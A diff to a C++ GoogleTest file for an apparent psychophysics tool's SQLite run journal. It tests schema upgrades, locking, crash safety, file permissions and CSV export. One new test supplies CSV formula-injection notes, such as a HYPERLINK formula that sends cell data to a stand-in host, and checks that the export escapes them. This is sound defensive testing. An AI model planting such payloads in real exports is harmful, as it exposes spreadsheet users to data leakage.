@@ -1,29 +1,34 @@
-// The journal of runs: its schema, every answer kept as the window takes it, its failures
-// that never stop an assessment, Past Runs and the CSV export.
+// The journal of runs: its schema and its upgrades, every answer kept as the window takes
+// it, a busy journal that holds no key and loses nothing, its failures that never stop an
+// assessment, files only their owner reads, Past Runs and the CSV export.
 #include <gtest/gtest.h>
-#include <sys/wait.h>
-#include <unistd.h>
+#include <sys/stat.h>
 
+#include <QDir>
+#include <QElapsedTimer>
+#include <QProcess>
 #include <QSqlError>
 #include <QSqlQuery>
-#include <QStatusBar>
 #include <QTableWidget>
-#include <csignal>
+#include <QThread>
 
 #include "core/procedure/credible_interval.h"
 #include "core/trial/answer_step.h"
 #include "core/trial/run_start.h"
 #include "gui/fakes/main_window_fixture.h"
 #include "gui/journal/journal_export.h"
+#include "gui/journal/journal_writer.h"
 #include "gui/journal/past_runs_window.h"
 #include "gui/journal/run_journal.h"
 #include "gui/report/output_window.h"
+#include "gui/widgets/notices.h"
 
 namespace limenta::testing {
 namespace {
 
-// The first column of every row a statement gives, read through a connection of its own.
-QStringList column(const QString& path, const QString& statement) {
+// Runs statements on a connection of its own, as another program would; the first column
+// of every row the last one gives.
+QStringList column(const QString& path, const QStringList& statements) {
     QStringList values;
     {
         QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"),
@@ -31,7 +36,9 @@ QStringList column(const QString& path, const QString& statement) {
         db.setDatabaseName(path);
         EXPECT_TRUE(db.open());
         QSqlQuery q(db);
-        EXPECT_TRUE(q.exec(statement)) << q.lastError().text().toStdString();
+        for (const QString& statement : statements) {
+            EXPECT_TRUE(q.exec(statement)) << q.lastError().text().toStdString();
+        }
         while (q.next()) {
             values << q.value(0).toString();
         }
@@ -40,58 +47,181 @@ QStringList column(const QString& path, const QString& statement) {
     return values;
 }
 
+QStringList column(const QString& path, const QString& statement) {
+    return column(path, QStringList{statement});
+}
+
+// A journal of an older version, made from its SQL.
+void makeJournalOfVersion(int version, const QString& path) {
+    QFile sql(QStringLiteral(LIMENTA_JOURNAL_VERSIONS "/journal-v%1.sql").arg(version));
+    ASSERT_TRUE(sql.open(QIODevice::ReadOnly)) << sql.fileName().toStdString();
+    QStringList statements;
+    for (const QString& line : QString::fromUtf8(sql.readAll()).split(QLatin1Char('\n'))) {
+        if (!line.isEmpty() && !line.startsWith(QLatin1String("--"))) {
+            statements << line;
+        }
+    }
+    column(path, statements);
+}
+
+int modeOf(const QString& path) {
+    struct stat status {};
+    return ::stat(QFile::encodeName(path).constData(), &status) == 0
+               ? static_cast<int>(status.st_mode & 0777)
+               : -1;
+}
+
+// Another program holding the journal in an exclusive transaction, until released.
+class Lock {
+  public:
+    explicit Lock(const QString& path)
+        : db_(QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("locker"))) {
+        db_.setDatabaseName(path);
+        EXPECT_TRUE(db_.open());
+        EXPECT_TRUE(QSqlQuery(db_).exec(QStringLiteral("BEGIN EXCLUSIVE")));
+    }
+    ~Lock() {
+        release();
+        db_.close();
+        db_ = QSqlDatabase();
+        QSqlDatabase::removeDatabase(QStringLiteral("locker"));
+    }
+    Lock(const Lock&) = delete;
+    Lock& operator=(const Lock&) = delete;
+    void release() {
+        if (held_) {
+            QSqlQuery(db_).exec(QStringLiteral("COMMIT"));
+            held_ = false;
+        }
+    }
+
+  private:
+    QSqlDatabase db_;
+    bool held_ = true;
+};
+
 class Journal : public MainWindowTest {
   protected:
     void TearDown() override {
-        window.reset();
-        journal.reset();
+        writer.reset();
         MainWindowTest::TearDown();
     }
     [[nodiscard]] QString journalPath() const {
         return dir.filePath(QLatin1String(kJournalFileName));
     }
+    void startWriter(const QString& path) {
+        writer = std::make_unique<JournalWriter>(path, [this](const QString& notice) {
+            notices << notice;
+            if (window) {
+                window->tell(notice);
+            }
+        });
+        if (window) {
+            window->setJournal(writer.get());
+        }
+    }
     Window1& openWithJournal(const std::optional<std::string>& prefs = defaultPrefsText()) {
         Window1& w = open(prefs);
-        journal = RunJournal::openBeside(prefsPath(), notice);
-        w.setJournal(journal.get(), notice);
+        startWriter(journalPath());
         return w;
+    }
+    // Lets the writer's thread take everything it was given, and its notices arrive.
+    bool settled(int ms = 5000) {
+        QElapsedTimer waited;
+        waited.start();
+        while (!writer->idle() && waited.elapsed() < ms) {
+            QCoreApplication::processEvents();
+            QThread::msleep(2);
+        }
+        QCoreApplication::processEvents();
+        return writer->idle();
+    }
+    // Lets `ms` pass with the event loop running.
+    static void pass(int ms) {
+        QElapsedTimer waited;
+        waited.start();
+        while (waited.elapsed() < ms) {
+            QCoreApplication::processEvents();
+            QThread::msleep(2);
+        }
     }
     [[nodiscard]] QStringList fired() const {
         return column(journalPath(),
                       QStringLiteral("SELECT fired FROM answers ORDER BY run_id, trial"));
     }
 
-    std::unique_ptr<RunJournal> journal;
-    QString notice;
+    std::unique_ptr<JournalWriter> writer;
+    QStringList notices;
 };
 
-TEST_F(Journal, ASchemaOfItsOwnVersionInWalMode) {
-    openWithJournal();
-    ASSERT_TRUE(journal) << notice.toStdString();
-    EXPECT_TRUE(notice.isEmpty());
-    EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")), QStringList{"1"});
+TEST_F(Journal, ASchemaOfItsOwnVersionInWalModeReadableByItsOwnerOnly) {
+    Window1& w = openWithJournal();
+    ASSERT_TRUE(settled());
+    EXPECT_TRUE(notices.isEmpty());
+    EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")), QStringList{"2"});
     EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA journal_mode")), QStringList{"wal"});
     EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT name FROM sqlite_master WHERE "
                                                    "type = 'table' ORDER BY name")),
               (QStringList{"answers", "runs"}));
+    w.PushButton1->click();
+    type("y");
+    ASSERT_TRUE(settled());
+    for (const char* part : {"", "-wal", "-shm"}) {
+        EXPECT_EQ(modeOf(journalPath() + QLatin1String(part)), 0600) << part;
+    }
+    // An older journal open to others is tightened when Limenta opens it.
+    writer.reset();
+    ::chmod(QFile::encodeName(journalPath()).constData(), 0644);
+    startWriter(journalPath());
+    ASSERT_TRUE(settled());
+    EXPECT_EQ(modeOf(journalPath()), 0600);
     // A method the schema does not know is refused by the file itself.
-    QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
-    db.setDatabaseName(journalPath());
-    ASSERT_TRUE(db.open());
-    QSqlQuery q(db);
-    EXPECT_FALSE(q.exec(QStringLiteral(
-        "INSERT INTO runs(started, method, settings) VALUES('2026', 'bayes', '{}')")));
-    // A journal written by a later Limenta (a later version) is left alone.
-    ASSERT_TRUE(q.exec(QStringLiteral("PRAGMA user_version=2")));
-    q.finish();
-    db.close();
-    db = QSqlDatabase();
+    {
+        QSqlDatabase db =
+            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
+        db.setDatabaseName(journalPath());
+        ASSERT_TRUE(db.open());
+        EXPECT_FALSE(QSqlQuery(db).exec(QStringLiteral(
+            "INSERT INTO runs(started, method, settings) VALUES('2026', 'x', '{}')")));
+        db.close();
+    }
     QSqlDatabase::removeDatabase(QStringLiteral("raw"));
-    QString problem;
-    QString aside;
-    EXPECT_FALSE(RunJournal::open(journalPath(), problem, aside));
-    EXPECT_NE(problem.indexOf(QLatin1String("newer")), -1);
-    EXPECT_TRUE(aside.isEmpty());
+    // A journal written by a later Limenta (a later version) is left alone.
+    writer.reset();
+    column(journalPath(), QStringLiteral("PRAGMA user_version=3"));
+    startWriter(journalPath());
+    settled();
+    EXPECT_EQ(w.notice(), QLatin1String(notice::kJournalNotOpened)
+                              .arg(journalPath(), QStringLiteral("the journal was written by a "
+                                                                 "newer Limenta")));
+    EXPECT_TRUE(writer->ended());
+    EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")), QStringList{"3"});
+}
+
+TEST_F(Journal, AJournalOfEveryOlderVersionIsUpgradedInPlaceStepByStep) {
+    for (int version = 1; version < RunJournal::kSchemaVersion; ++version) {
+        SCOPED_TRACE(version);
+        QFile::remove(journalPath());
+        makeJournalOfVersion(version, journalPath());
+        ASSERT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")),
+                  QStringList{QString::number(version)});
+        RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Write);
+        ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
+        EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")),
+                  QStringList{QString::number(RunJournal::kSchemaVersion)});
+        // Its runs and answers as they were, and room for new ones.
+        const std::vector<JournalRun> runs = opened.journal->runs();
+        ASSERT_EQ(runs.size(), 1U);
+        EXPECT_EQ(runs[0].note, "P-003");
+        EXPECT_EQ(runs[0].estimate, 41.6875);
+        EXPECT_EQ(opened.journal->answers(runs[0].id).size(), 2U);
+        JournalRun later;
+        later.uid = QStringLiteral("later");
+        later.started = QStringLiteral("2026-12-09T10:00:00Z");
+        later.settings = QStringLiteral("{}");
+        EXPECT_TRUE(opened.journal->write({JournalWrite::start(later)}));
+        EXPECT_EQ(opened.journal->runs().size(), 2U);
+    }
 }
 
 TEST_F(Journal, EveryAnswerIsKeptAsTheWindowTakesItForBothMethods) {
@@ -99,6 +229,7 @@ TEST_F(Journal, EveryAnswerIsKeptAsTheWindowTakesItForBothMethods) {
     w.PushButton1->click();
     type("yynnyny");
     ASSERT_EQ(w.myrmt, 41.6875);
+    ASSERT_TRUE(settled());
     EXPECT_EQ(fired(), (QStringList{"50", "43", "36", "39.5", "43", "41.25", "42.125"}));
     EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT estimate FROM runs")),
               QStringList{"41.6875"});
@@ -110,6 +241,7 @@ TEST_F(Journal, EveryAnswerIsKeptAsTheWindowTakesItForBothMethods) {
     // An answer after the end is kept too, and the run's end moves with it.
     fake.clocks.now = fake.clocks.now.addSecs(60);
     type("n");
+    ASSERT_TRUE(settled());
     EXPECT_EQ(fired().size(), 8);
     EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT ended FROM runs")),
               QStringList{"2026-12-08T09:31:15Z"});
@@ -119,6 +251,7 @@ TEST_F(Journal, EveryAnswerIsKeptAsTheWindowTakesItForBothMethods) {
     w.CheckBox1->click();
     w.PushButton1->click();
     type("nyny");
+    ASSERT_TRUE(settled());
     EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT method FROM runs ORDER BY id")),
               (QStringList{"pest", "ml"}));
     EXPECT_EQ(
@@ -129,6 +262,7 @@ TEST_F(Journal, EveryAnswerIsKeptAsTheWindowTakesItForBothMethods) {
               QStringList{QString::number(w.teststim)});
     // Print/Save stores the report the operator saw.
     w.PushButton4->click();
+    ASSERT_TRUE(settled());
     EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT report FROM runs WHERE id = 2")),
               QStringList{w.outputWindow()->EditField1->text()});
 }
@@ -151,6 +285,7 @@ TEST_F(Journal, AnMlPestRunEstimatesEverywhereWithTheSpreadTypedAtStart) {
             takeAnswer(expected, key == 'y' ? 1 : 0, Method::MlPest, 0);
             ASSERT_EQ(w.curstim, expected.curstim);
         }
+        ASSERT_TRUE(settled());
         const auto interval = credibleInterval(firedAnswers(expected), spread);
         ASSERT_TRUE(interval && w.runInterval());
         EXPECT_EQ(w.runInterval()->low, interval->low);
@@ -166,35 +301,110 @@ TEST_F(Journal, AnMlPestRunEstimatesEverywhereWithTheSpreadTypedAtStart) {
                       QStringLiteral("\"spread\":\"%1\"").arg(spread)),
                   -1);
         w.PushButton4->click();
+        ASSERT_TRUE(settled());
         EXPECT_NE(w.outputWindow()->EditField1->text().indexOf(
                       QStringLiteral("\rSpread = %1\r").arg(spread)),
                   -1);
+        writer.reset();
         window.reset();
-        journal.reset();
         QFile::remove(journalPath());
     }
 }
 
-TEST_F(Journal, AProgramKilledAfterThreeAnswersKeepsThem) {
-    const QString path = journalPath();
-    const pid_t child = fork();
-    ASSERT_GE(child, 0);
-    if (child == 0) {
-        QString problem;
-        QString aside;
-        auto killed = RunJournal::open(path, problem, aside);
-        const auto run = killed->startRun(QStringLiteral("2026-12-08T09:30:15Z"),
-                                          Method::AdaptivePest, QStringLiteral("{}"));
-        for (int trial = 1; trial <= 3; ++trial) {
-            killed->addAnswer(*run, {trial, 50.0 - trial, trial % 2, 40, 7, QStringLiteral("t")});
+// A program that shows answers and is killed loses none of them: 200 ms after its last
+// answer on a free journal, and while another program holds the journal.
+TEST_F(Journal, AProgramKilledLosesNoAnswerItShowedLockOrNoLock) {
+    for (const bool locked : {false, true}) {
+        SCOPED_TRACE(locked ? "during a lock" : "without a lock");
+        QFile::remove(journalPath());
+        ASSERT_TRUE(RunJournal::open(journalPath(), RunJournal::Access::Write).journal);
+        std::optional<Lock> lock;
+        if (locked) {
+            lock.emplace(journalPath());
         }
-        ::kill(::getpid(), SIGKILL);
+        QProcess child;
+        child.start(QStringLiteral(LIMENTA_JOURNAL_CHILD), {journalPath(), QStringLiteral("5")});
+        QByteArray shown;
+        while (!shown.contains("done") && child.waitForReadyRead(5000)) {
+            shown += child.readAllStandardOutput();
+        }
+        ASSERT_TRUE(shown.contains("shown 5\ndone")) << shown.toStdString();
+        QThread::msleep(200);
+        child.kill();
+        ASSERT_TRUE(child.waitForFinished(5000));
+        ASSERT_EQ(child.exitStatus(), QProcess::CrashExit);
+        if (lock) {
+            EXPECT_GT(QFileInfo(journalPath() + QStringLiteral("-waiting")).size(), 0);
+            EXPECT_TRUE(fired().isEmpty());
+            lock.reset();  // the lock ends; the next start writes what waited
+        }
+        startWriter(journalPath());
+        ASSERT_TRUE(settled());
+        EXPECT_EQ(fired(), (QStringList{"49", "48", "47", "46", "45"}));
+        writer.reset();
+        EXPECT_EQ(QFileInfo(journalPath() + QStringLiteral("-waiting")).size(), 0);
     }
-    int status = 0;
-    ASSERT_EQ(::waitpid(child, &status, 0), child);
-    ASSERT_TRUE(WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL);
-    EXPECT_EQ(column(path, QStringLiteral("SELECT fired FROM answers ORDER BY trial")),
-              (QStringList{"49", "48", "47"}));
+}
+
+// Another program holds the journal in an exclusive transaction for longer than the
+// writer waits: no key waits for it, and every answer, the end and the report reach the
+// journal once the lock ends. Also with the lock already there at start-up, on a journal
+// of the version before, which needs an upgrade.
+TEST_F(Journal, ABusyJournalHoldsNoKeyAndEveryAnswerReachesItWhenFree) {
+    struct Case {
+        const char* name;
+        std::string prefs;
+        const char* keys;
+        bool atStartUp;
+    };
+    const std::vector<Case> cases{
+        {"adaptive PEST", defaultPrefsText(), "yynnyny", false},
+        {"ML-PEST", prefsWith({{kPrefsUseMlPest, "1"}}), "nynnyynynyynynynnyny", false},
+        {"at start-up", defaultPrefsText(), "yynnyny", true}};
+    for (const Case& c : cases) {
+        SCOPED_TRACE(c.name);
+        writer.reset();
+        QFile::remove(journalPath());
+        std::optional<Lock> lock;
+        if (c.atStartUp) {
+            makeJournalOfVersion(1, journalPath());
+            lock.emplace(journalPath());
+        }
+        Window1& w = openWithJournal(c.prefs);
+        if (!c.atStartUp) {
+            ASSERT_TRUE(settled());
+            lock.emplace(journalPath());
+        }
+        w.PushButton1->click();
+        qint64 longest = 0;
+        for (const char key : std::string(c.keys)) {
+            QElapsedTimer held;
+            held.start();
+            type(std::string(1, key));
+            longest = std::max(longest, held.elapsed());
+        }
+        EXPECT_LT(longest, 50) << "ms for the slowest key";
+        w.PushButton4->click();  // a report, while the journal is still busy
+        pass(300);
+        EXPECT_EQ(w.notice(), notice::kJournalWaiting);
+        EXPECT_FALSE(writer->idle());
+
+        lock.reset();
+        ASSERT_TRUE(settled());
+        EXPECT_EQ(w.notice(), notice::kJournalWritten);
+        const QString run = QStringLiteral(" FROM runs ORDER BY id DESC LIMIT 1");
+        EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT (SELECT COUNT(*) FROM answers "
+                                                       "WHERE run_id = runs.id)") +
+                                            run),
+                  QStringList{QString::number(w.stepnum)});
+        EXPECT_EQ(
+            column(journalPath(), QStringLiteral("SELECT estimate") + run).value(0).toDouble(),
+            w.myrmt);
+        EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT report") + run),
+                  QStringList{w.outputWindow()->EditField1->text()});
+        EXPECT_EQ(column(journalPath(), QStringLiteral("PRAGMA user_version")), QStringList{"2"});
+        EXPECT_FALSE(writer->ended());
+    }
 }
 
 TEST_F(Journal, AJournalThatCannotBeOpenedLeavesTheAssessmentRunningWithOneMessage) {
@@ -202,10 +412,13 @@ TEST_F(Journal, AJournalThatCannotBeOpenedLeavesTheAssessmentRunningWithOneMessa
     // Its folder is a file: nothing can be created there.
     const QString blocked = dir.filePath(QStringLiteral("blocked"));
     QFile(blocked).open(QIODevice::WriteOnly);
-    journal = RunJournal::openBeside(blocked + QStringLiteral("/PREFS"), notice);
-    EXPECT_FALSE(journal);
-    w.setJournal(nullptr, notice);
-    EXPECT_TRUE(w.notice().startsWith(QLatin1String("Runs are not being kept")));
+    startWriter(RunJournal::besidePrefs(blocked + QStringLiteral("/PREFS")));
+    settled();
+    EXPECT_TRUE(writer->ended());
+    EXPECT_TRUE(w.notice().startsWith(
+        QLatin1String("Runs are not being kept: print or save each report. The journal ")))
+        << w.notice().toStdString();
+    EXPECT_EQ(notices.size(), 1);
     w.PushButton1->click();
     type("yyn");
     EXPECT_EQ(w.stepnum, 3);
@@ -225,15 +438,18 @@ TEST_F(Journal, ADamagedFileIsPutAsideUnchangedAndAFreshOneStarted) {
         damaged.write(QByteArray("not a journal at all, but last year's runs maybe").repeated(100));
     }
     Window1& w = openWithJournal();
-    ASSERT_TRUE(journal) << notice.toStdString();
-    EXPECT_TRUE(notice.startsWith(QLatin1String(
+    ASSERT_TRUE(settled());
+    ASSERT_EQ(notices.size(), 1);
+    const QString told = notices[0];
+    EXPECT_TRUE(told.startsWith(QLatin1String(
         "The run journal was damaged, so a new one was started. The damaged file is kept as ")));
-    const QString aside = notice.section(QLatin1Char(' '), -1).chopped(1);
+    const QString aside = told.section(QLatin1Char(' '), -1).chopped(1);
     QFile kept(aside);
     ASSERT_TRUE(kept.open(QIODevice::ReadOnly)) << aside.toStdString();
     EXPECT_TRUE(kept.readAll().startsWith("not a journal at all"));
     w.PushButton1->click();
     type("y");
+    ASSERT_TRUE(settled());
     EXPECT_EQ(fired(), QStringList{"50"});
 }
 
@@ -245,19 +461,21 @@ TEST_F(Journal, AFullDiskStopsTheJournalNotTheRun) {
         GTEST_SKIP() << "no small tmpfs could be mounted (needs root)";
     }
     Window1& w = open();
-    journal = RunJournal::openBeside(mount + QStringLiteral("/PREFS"), notice);
-    ASSERT_TRUE(journal);
-    w.setJournal(journal.get(), notice);
+    startWriter(RunJournal::besidePrefs(mount + QStringLiteral("/PREFS")));
+    ASSERT_TRUE(settled());
     w.PushButton1->click();
+    ASSERT_TRUE(settled());
     std::system(
         ("dd if=/dev/zero of=" + mount.toLocal8Bit() + "/filler bs=4k 2>/dev/null").constData());
     type("yynnyny");
     EXPECT_EQ(w.myrmt, 41.6875);  // the run went on
-    EXPECT_TRUE(w.notice().startsWith(QLatin1String("The run journal could not be written")))
+    settled();
+    EXPECT_TRUE(writer->ended());
+    EXPECT_TRUE(w.notice().startsWith(QLatin1String(
+        "The run journal could not be written: print or save the report to keep this run.")))
         << w.notice().toStdString();
-    EXPECT_EQ(w.journal(), nullptr);
+    writer.reset();
     window.reset();
-    journal.reset();
     std::system(("umount " + mount.toLocal8Bit()).constData());
 }
 
@@ -269,6 +487,7 @@ TEST_F(Journal, PastRunsListsReopensAndExports) {
     fake.clocks.now = fake.clocks.now.addDays(1);
     w.PushButton1->click();
     type("yy");
+    ASSERT_TRUE(settled());
     w.showPastRuns();
     auto* past = w.findChild<PastRunsWindow*>();
     ASSERT_NE(past, nullptr);
@@ -281,6 +500,7 @@ TEST_F(Journal, PastRunsListsReopensAndExports) {
 
     // The note is kept in the journal.
     table->item(1, PastRunsWindow::kNote)->setText(QStringLiteral("P-017, left hand"));
+    ASSERT_TRUE(settled());
     EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT note FROM runs WHERE id = 1")),
               QStringList{"P-017, left hand"});
 
@@ -292,10 +512,13 @@ TEST_F(Journal, PastRunsListsReopensAndExports) {
     EXPECT_NE(report.indexOf(QLatin1String("07   042.13   042   1.0   00.4375")), -1);
     EXPECT_NE(report.indexOf(QLatin1String("Starting Value = 50")), -1);
 
-    // Export: the selected run, one row per answer, the note quoted.
+    // Export: the selected run, one row per answer, the note quoted; a name without an
+    // extension gets one, and the file is its owner's alone.
     const QString csvPath = dir.filePath(QStringLiteral("runs.csv"));
-    fake.dialogs.saveAnswer = csvPath;
+    fake.dialogs.saveAnswer = dir.filePath(QStringLiteral("runs"));
     past->exportCsv();
+    EXPECT_EQ(fake.dialogs.offeredFilters, std::vector<QString>{"CSV files (*.csv)"});
+    EXPECT_EQ(modeOf(csvPath), 0600);
     QFile csv(csvPath);
     ASSERT_TRUE(csv.open(QIODevice::ReadOnly));
     const QList<QByteArray> lines = csv.readAll().split('\n');
@@ -347,34 +570,67 @@ std::vector<QStringList> parseCsv(const QString& text) {
     return rows;
 }
 
+TEST_F(Journal, AnExportedCsvRunsNoFormulaAndKeepsItsNumbersNumbers) {
+    RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Write);
+    ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
+    const QStringList notes{QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"),
+                            QStringLiteral("+1"),
+                            QStringLiteral("-12"),
+                            QStringLiteral("@SUM(A1)"),
+                            QStringLiteral("\tP-1"),
+                            QStringLiteral("\rP-2"),
+                            QStringLiteral("P-3 = fine")};
+    for (const QString& note : notes) {
+        JournalRun run;
+        run.uid = note;
+        run.started = QStringLiteral("2026-12-09T10:00:00Z");
+        run.settings = QStringLiteral("{}");
+        ASSERT_TRUE(opened.journal->write({JournalWrite::start(run)}));
+        const qint64 id = opened.journal->runs().front().id;
+        ASSERT_TRUE(opened.journal->write(
+            {JournalWrite::noted(id, note), JournalWrite::taken(run, {1, -0.5, 1, 43, 7, "t"})}));
+    }
+    const std::vector<JournalRun> runs = opened.journal->runs();
+    const std::vector<QStringList> rows = parseCsv(journalCsv(*opened.journal, runs));
+    ASSERT_EQ(rows.size(), 1 + notes.size());
+    for (std::size_t r = 1; r < rows.size(); ++r) {
+        const QString& note = runs[r - 1].note;
+        const bool formulaStart = QStringLiteral("=+-@\t\r").contains(note.front());
+        EXPECT_EQ(rows[r][8], formulaStart ? QLatin1Char('\'') + note : note);
+        EXPECT_EQ(rows[r][10], "-0.5");  // a number stays a number, its sign and all
+    }
+}
+
 TEST_F(Journal, AThousandRunsComeBackWholeFromTheirCsv) {
-    QString problem;
-    QString aside;
-    journal = RunJournal::open(journalPath(), problem, aside);
-    ASSERT_TRUE(journal) << problem.toStdString();
+    RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Write);
+    ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
+    RunJournal& journal = *opened.journal;
     const QStringList notes{QStringLiteral("P-1, \"left\""), QStringLiteral("two\nlines"),
                             QStringLiteral("plain"), QString()};
     for (int r = 1; r <= 1000; ++r) {
-        const auto id =
-            journal->startRun(QStringLiteral("2026-12-%1T10:00:00+01:00").arg(r % 28 + 1),
-                              r % 2 == 0 ? Method::MlPest : Method::AdaptivePest,
-                              QStringLiteral(R"({"initial_output":"5,5"})"));
-        ASSERT_TRUE(id);
-        ASSERT_TRUE(journal->setNote(*id, notes[r % notes.size()]));
+        JournalRun run;
+        run.uid = QString::number(r);
+        run.started = QStringLiteral("2026-12-%1T10:00:00+01:00").arg(r % 28 + 1);
+        run.method = r % 2 == 0 ? Method::MlPest : Method::AdaptivePest;
+        run.settings = QStringLiteral(R"({"initial_output":"5,5"})");
+        std::vector<JournalWrite> writes{JournalWrite::start(run),
+                                         JournalWrite::noted(r, notes[r % notes.size()])};
         for (int t = 1; t <= r % 4; ++t) {  // some runs without answers
-            ASSERT_TRUE(journal->addAnswer(*id, {t, 40 + t / 3.0, t % 2, 41.0 / t, 7.0 / t,
-                                                 QStringLiteral("2026-12-01T10:00:0%1Z").arg(t)}));
+            writes.push_back(
+                JournalWrite::taken(run, {t, 40 + t / 3.0, t % 2, 41.0 / t, 7.0 / t,
+                                          QStringLiteral("2026-12-01T10:00:0%1Z").arg(t)}));
         }
+        ASSERT_TRUE(journal.write(writes));
     }
-    const std::vector<JournalRun> runs = journal->runs();
-    const std::vector<QStringList> rows = parseCsv(journalCsv(*journal, runs));
+    const std::vector<JournalRun> runs = journal.runs();
+    const std::vector<QStringList> rows = parseCsv(journalCsv(journal, runs));
     ASSERT_FALSE(rows.empty());
     EXPECT_EQ(rows[0].join(QLatin1Char(',')),
               "run_id,started,ended,method,settings,estimate,interval_low,interval_high,note,"
               "trial,fired,answer,next,diff,at");
     std::size_t at = 1;
     for (const JournalRun& run : runs) {
-        const std::vector<JournalAnswer> answers = journal->answers(run.id);
+        const std::vector<JournalAnswer> answers = journal.answers(run.id);
         for (std::size_t a = 0; a < std::max<std::size_t>(answers.size(), 1); ++a) {
             ASSERT_LT(at, rows.size());
             const QStringList& row = rows[at++];
